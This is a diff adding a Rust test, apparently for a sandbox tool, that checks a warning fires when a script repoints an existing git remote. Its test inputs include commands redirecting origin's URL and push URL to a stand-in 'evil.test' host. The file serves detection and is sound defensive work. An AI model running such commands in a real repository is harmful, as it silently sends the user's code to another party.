@@ -174,6 +174,31 @@ fn every_way_runs_something_without_a_box() {
     }
 }
 
+/// No entry runs anything, and the next push goes to somebody else: it is said.
+#[test]
+fn a_remote_that_leads_elsewhere_is_named() {
+    const LINE: &str = "remotes that were there lead elsewhere now";
+    for (script, said) in [
+        ("git remote set-url origin https://evil.test/x", true),
+        ("git config remote.origin.pushurl https://evil.test/x", true),
+        ("git config branch.main.pushRemote evil", true),
+        (
+            "git remote add fork https://fork.test/x; git config user.name b",
+            false,
+        ),
+    ] {
+        let b = world();
+        host(&b, "git remote add origin https://origin.test/x").ok();
+        let ran = b.sh(script);
+        assert_eq!(ran.code(), 0, "{ran:?}");
+        assert_eq!(
+            ran.complaint().matches(LINE).count(),
+            usize::from(said),
+            "{script}: {ran:?}"
+        );
+    }
+}
+
 /// What leads to where git directories are looked for stays: remotes that are directories, and what `git clone` writes.
 #[test]
 fn remotes_that_are_directories_stay() {
